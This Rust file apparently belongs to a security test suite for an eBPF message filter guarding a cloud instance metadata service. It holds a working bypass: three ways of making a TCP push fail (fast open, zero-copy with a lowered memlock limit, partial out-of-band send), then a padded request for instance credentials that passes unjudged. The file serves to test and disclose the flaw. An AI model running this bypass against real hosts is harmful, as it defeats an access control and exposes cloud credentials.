//! A verdict left in force by a push that failed (issue 23; review r1
//! §1.7, §4.1, §5): `req_msg` lets an allowed head through, then TCP's
//! push of it fails, or stops part way. `tcp_bpf_send_verdict` resets
//! `psock->eval` to `__SK_NONE` only when the push returns 0, so the
//! socket's next message is pushed at `__SK_PASS` without `req_msg`
//! running, at a stream position `req_msg` already judged (it moved the
//! judged end past the whole allowed head). Each [`FailedPush`] makes the
//! push fail one way, then sends a forbidden head (the credentials) that
//! fits in what was judged and not sent.
//!
//! The two heads are padded to the same length with an `X-Pad` header,
//! so that the forbidden one (or, after a partial push, the end of the
//! allowed one followed by the forbidden one) fills exactly the judged
//! range that is left.

use std::{
    io::Write as _,
    net::{SocketAddr, TcpStream},
    os::fd::{AsRawFd as _, RawFd},
};

use crate::{
    imdsv2::{TIMEOUT, TOKEN_PATH, TTL_HEADER},
    outcome::{Failure, Step, os_failure},
    requests::{
        INSTANCE_ID_PATH, TOKEN_HEADER, credentials_path, exchange, head, set_int, stream_to,
    },
};

/// A way for the push of a head `req_msg` let through to fail.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FailedPush {
    /// `send(MSG_FASTOPEN)` on the established socket (connected by a
    /// blocking `connect`): TCP tries a fast open connect first
    /// (`tcp_sendmsg_fastopen`), which answers `EISCONN` before a byte is
    /// queued. Seen so on a plain socket on 6.18 and behind `req_msg` in
    /// the 6.1 guest (6.1.0-57); behind `req_msg` on 6.18 (6.18.44) the
    /// send took the whole head instead, so there the next head has a
    /// verdict of its own.
    FastOpen,
    /// `SO_ZEROCOPY`, the soft `RLIMIT_MEMLOCK` lowered to 0, then
    /// `send(MSG_ZEROCOPY)`: the pages cannot be accounted
    /// (`mm_account_pinned_pages`), `ENOBUFS` before a byte is queued.
    /// Seen so on 6.18 and 6.1, plain and behind `req_msg`.
    ZeroCopyNoMemlock,
    /// `TCP_MAXSEG` 88 and the smallest send buffer set before the
    /// connect, then `send(MSG_OOB | MSG_DONTWAIT)`: `MSG_OOB` makes every
    /// segment one MSS, each costs a skb's truesize, the buffer is full
    /// after a few hundred bytes and the rest of the push fails with
    /// `EAGAIN` (the send returns the partial count: 456 of 1024 bytes on
    /// 6.18, 304 on 6.1). The urgent byte (the last one pushed) falls
    /// inside the padding.
    PartialOob,
}

impl FailedPush {
    pub const ALL: [Self; 3] = [Self::FastOpen, Self::ZeroCopyNoMemlock, Self::PartialOob];

    pub fn name(self) -> &'static str {
        match self {
            Self::FastOpen => "failed-push-fastopen",
            Self::ZeroCopyNoMemlock => "failed-push-zerocopy-memlock",
            Self::PartialOob => "partial-push-oob",
        }
    }
}

/// What the send of the allowed head did, as the probe reports it in its
/// transcript ([`Pushed::parse`]).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Pushed {
    /// The bytes the send took (0 when it failed).
    pub sent: usize,
    /// The allowed head's length.
    pub len: usize,
    /// The send's errno when it failed.
    pub errno: Option<i32>,
}

impl Pushed {
    const PREFIX: &str = "push: ";

    fn line(self) -> String {
        let errno = self.errno.map_or("none".to_owned(), |e| e.to_string());
        format!(
            "{}{} of {} bytes, errno {errno}\n",
            Self::PREFIX,
            self.sent,
            self.len
        )
    }

    /// The report in a probe's body (its transcript), if there is one.
    pub fn parse(body: &str) -> Option<Self> {
        let line = body.lines().find_map(|l| l.strip_prefix(Self::PREFIX))?;
        let (sent, rest) = line.split_once(" of ")?;
        let (len, errno) = rest.split_once(" bytes, errno ")?;
        Some(Self {
            sent: sent.parse().ok()?,
            len: len.parse().ok()?,
            errno: match errno {
                "none" => None,
                n => Some(n.parse().ok()?),
            },
        })
    }

    /// Whether the push stopped before the whole head was sent (the
    /// verdict is then left in force).
    pub fn failed(self) -> bool {
        self.sent < self.len
    }
}

/// The length both heads are padded to: one `X-Pad` header line stays
/// under the parser's 1024-byte header line, the head under its 2048
/// bytes, and head plus queue under half the smallest send buffer
/// (`room()` in the judge).
const HEAD_LEN: usize = 1024;

fn failure(error: impl Into<String>) -> Failure {
    Failure {
        errno: None,
        error: error.into(),
        body: String::new(),
    }
}

/// The start of a `GET` of `path` with the token, up to the padding
/// header's value.
fn padded_start(addr: SocketAddr, path: &str, token: &str) -> String {
    let host = match addr {
        SocketAddr::V4(a) => a.ip().to_string(),
        SocketAddr::V6(a) => format!("[{}]", a.ip()),
    };
    format!(
        "GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n\
         {TOKEN_HEADER}: {token}\r\nX-Pad: "
    )
}

/// A `GET` of `path` with the token, padded to exactly `len` bytes.
fn padded(addr: SocketAddr, path: &str, token: &str, len: usize) -> Step<Vec<u8>> {
    let start = padded_start(addr, path, token);
    let pad = len
        .checked_sub(start.len() + 4)
        .filter(|&p| p > 0)
        .ok_or_else(|| failure(format!("a {path} head cannot be {len} bytes long")))?;
    Ok(format!("{start}{}\r\n\r\n", "a".repeat(pad)).into_bytes())
}

/// Runs `push` against `addr`: the token, then the allowed head (the
/// instance id) sent so that its push fails, then the forbidden head
/// (the credentials) in what is left of the judged range, and every
/// response read. The transcript starts with what the failing send did
/// ([`Pushed`]).
pub(crate) fn run(addr: SocketAddr, push: FailedPush, transcript: &mut String) -> Step<()> {
    let mut stream = connect_blocking(addr, push == FailedPush::PartialOob)?;
    let fd = stream.as_raw_fd();
    if push == FailedPush::ZeroCopyNoMemlock {
        set_int(fd, libc::SOL_SOCKET, libc::SO_ZEROCOPY, 1)?;
    }
    stream
        .write_all(&head(addr, "PUT", TOKEN_PATH, (TTL_HEADER, "60")))
        .map_err(|e| os_failure("send the token request", e))?;
    let token = exchange(&mut stream, transcript)?;
    let allowed = padded(addr, INSTANCE_ID_PATH, &token, HEAD_LEN)?;
    let creds = credentials_path();
    let sent = send_failing(fd, push, &allowed);
    let pushed = Pushed {
        sent: *sent.as_ref().unwrap_or(&0),
        len: allowed.len(),
        errno: sent.as_ref().err().and_then(std::io::Error::raw_os_error),
    };
    // First in the transcript, so that the test sees it whatever follows.
    transcript.insert_str(0, &pushed.line());
    let (follow, responses) = match pushed.sent {
        // Not a byte pushed: the forbidden head fills the judged range.
        0 => (padded(addr, &creds, &token, HEAD_LEN)?, 1),
        // Pushed whole (this kernel's push did not fail): the allowed
        // request is answered, and the forbidden head goes to a verdict
        // of its own.
        k if k == allowed.len() => {
            exchange(&mut stream, transcript)?;
            (padded(addr, &creds, &token, HEAD_LEN)?, 1)
        }
        // Part of it pushed, ending in the padding: the rest of the
        // judged range is the end of the allowed head (its padding line
        // and blank line), then the forbidden head.
        k => {
            let start = padded_start(addr, INSTANCE_ID_PATH, &token).len();
            if k <= start || k > allowed.len() - 4 {
                return Err(failure(format!(
                    "the partial push of {k} bytes ended outside the padding ({start}..{})",
                    allowed.len() - 4
                )));
            }
            let rest = allowed.len() - k - 4;
            let tail = [b"\r\n\r\n".to_vec(), padded(addr, &creds, &token, rest)?].concat();
            (tail, 2)
        }
    };
    stream
        .write_all(&follow)
        .map_err(|e| os_failure("send the forbidden head", e))?;
    for _ in 0..responses {
        exchange(&mut stream, transcript)?;
    }
    Ok(())
}

/// Sends `bytes` on `fd` once, the way `push` makes the push fail: the
/// bytes the send took, or its error.
fn send_failing(fd: RawFd, push: FailedPush, bytes: &[u8]) -> std::io::Result<usize> {
    let send = |flags: libc::c_int| {
        // SAFETY: `bytes` outlives the call.
        let n = unsafe { libc::send(fd, bytes.as_ptr().cast(), bytes.len(), flags) };
        if n < 0 {
            Err(std::io::Error::last_os_error())
        } else {
            Ok(n as usize)
        }
    };
    match push {
        FailedPush::FastOpen => send(libc::MSG_FASTOPEN),
        FailedPush::ZeroCopyNoMemlock => {
            let mut limit = libc::rlimit {
                rlim_cur: 0,
                rlim_max: 0,
            };
            // SAFETY: `limit` outlives the call.
            if unsafe { libc::getrlimit(libc::RLIMIT_MEMLOCK, &raw mut limit) } != 0 {
                return Err(std::io::Error::last_os_error());
            }
            // Only the soft limit: lowering it needs no privilege, and it
            // is put back below.
            let none = libc::rlimit {
                rlim_cur: 0,
                rlim_max: limit.rlim_max,
            };
            // SAFETY: `none` outlives the call.
            if unsafe { libc::setrlimit(libc::RLIMIT_MEMLOCK, &raw const none) } != 0 {
                return Err(std::io::Error::last_os_error());
            }
            let sent = send(libc::MSG_ZEROCOPY);
            // SAFETY: `limit` outlives the call.
            unsafe { libc::setrlimit(libc::RLIMIT_MEMLOCK, &raw const limit) };
            sent
        }
        FailedPush::PartialOob => send(libc::MSG_OOB | libc::MSG_DONTWAIT),
    }
}

/// `TCP_MAXSEG` of [`FailedPush::PartialOob`]: `TCP_MIN_MSS`.
const SMALL_MSS: libc::c_int = 88;

/// A TCP connection to `addr` by a blocking `connect`, and with
/// `small` `TCP_MAXSEG` 88 and the smallest send buffer (`SO_SNDBUF` 1
/// becomes `SOCK_MIN_SNDBUF`, and locks it against autotuning), both set
/// before the connect.
///
/// Blocking, because a non-blocking connect completed by a poll (std's
/// `connect_timeout`) leaves the socket `SS_CONNECTING`: the first
/// `MSG_FASTOPEN` send then completes the connect in
/// `__inet_stream_connect` (`SS_CONNECTING` falls through to
/// `SS_CONNECTED`, 0) and is sent whole, where a socket already
/// `SS_CONNECTED` answers `EISCONN`.
fn connect_blocking(addr: SocketAddr, small: bool) -> Step<TcpStream> {
    let options: &[_] = if small {
        &[
            (libc::IPPROTO_TCP, libc::TCP_MAXSEG, SMALL_MSS),
            (libc::SOL_SOCKET, libc::SO_SNDBUF, 1),
        ]
    } else {
        &[]
    };
    stream_to(addr, 0, options, Some(TIMEOUT), Some(TIMEOUT))
}

#[cfg(test)]
mod tests {
    use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

    use super::*;

    #[test]
    fn both_heads_pad_to_the_same_length_on_every_address() {
        let token = format!("AQAEA{}", "0".repeat(24));
        for ip in [
            IpAddr::V4(Ipv4Addr::new(169, 254, 169, 254)),
            IpAddr::V6(Ipv6Addr::new(0xfd00, 0xec2, 0, 0, 0, 0, 0, 0x254)),
        ] {
            let addr = SocketAddr::new(ip, 80);
            let allowed = padded(addr, INSTANCE_ID_PATH, &token, HEAD_LEN).expect("allowed");
            let creds = padded(addr, &credentials_path(), &token, HEAD_LEN).expect("creds");
            assert_eq!((allowed.len(), creds.len()), (HEAD_LEN, HEAD_LEN));
            let longest = allowed
                .split(|&b| b == b'\n')
                .map(<[u8]>::len)
                .max()
                .unwrap_or(0);
            assert!(longest < 1024, "{longest}");
            assert!(padded(addr, &credentials_path(), &token, 100).is_err());
        }
    }

    #[test]
    fn the_push_report_round_trips() {
        for pushed in [
            Pushed {
                sent: 0,
                len: 1024,
                errno: Some(libc::EISCONN),
            },
            Pushed {
                sent: 344,
                len: 1024,
                errno: None,
            },
        ] {
            let body = format!("200 OK\ntoken\n{}", pushed.line());
            assert_eq!(Pushed::parse(&body), Some(pushed));
        }
        assert_eq!(Pushed::parse("200 OK\n"), None);
    }
}
